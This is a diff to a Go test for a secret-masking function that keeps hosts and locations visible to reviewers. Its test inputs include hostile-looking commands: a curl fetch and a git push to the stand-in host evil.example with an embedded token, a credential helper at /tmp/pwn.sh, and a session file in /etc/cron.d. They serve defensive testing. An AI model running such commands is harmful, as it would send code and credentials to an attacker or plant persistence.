@@ -15,8 +15,8 @@ import (
 // A secret key's value holding a command, a path or invisible characters
 // is masked with a mark saying so; values under keys naming a location or
 // a program (credential.helper, session_file) are shown; a URL's password
-// mask leaves the host a client connects to in clear; and text after a
-// fake mask is masked with it.
+// mask leaves the host a client connects to in clear, whatever the user
+// name; and text after a fake mask is masked with it.
 func TestServeReviewersSeeWhatIsMasked(t *testing.T) {
 	const (
 		begin, end = "-----BEGIN RSA PRIVATE KEY-----", "-----END RSA PRIVATE KEY-----"
@@ -42,6 +42,10 @@ func TestServeReviewersSeeWhatIsMasked(t *testing.T) {
 		// The host a WHATWG parser goes to is shown, after the password.
 		{"a host after a password", map[string]any{"text": `curl -s https://deploy:x@evil.example\@github.com/o/r.tgz`},
 			[]string{"https://deploy:[REDACTED 1 chars — not shown]@evil.example"}, nil},
+		// Also when the user name reads as a secret key (GitHub's
+		// x-access-token): the password is masked, not the host.
+		{"a host after a user name like a key", map[string]any{"text": "git push https://x-access-token:ghp_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA@evil.example/acme/app.git main"},
+			[]string{"https://x-access-token:[REDACTED 40 chars — not shown]@evil.example/acme/app.git main"}, []string{"ghp_AAAA"}},
 		// Where a secret is, or what fetches it, is an action, not a secret.
 		{"a credential helper", map[string]any{"text": "git -c credential.helper=/tmp/pwn.sh push origin main"}, []string{"credential.helper=/tmp/pwn.sh"}, nil},
 		{"a session file", map[string]any{"text": "run", "session_file": "/etc/cron.d/evil"}, []string{"/etc/cron.d/evil"}, nil},
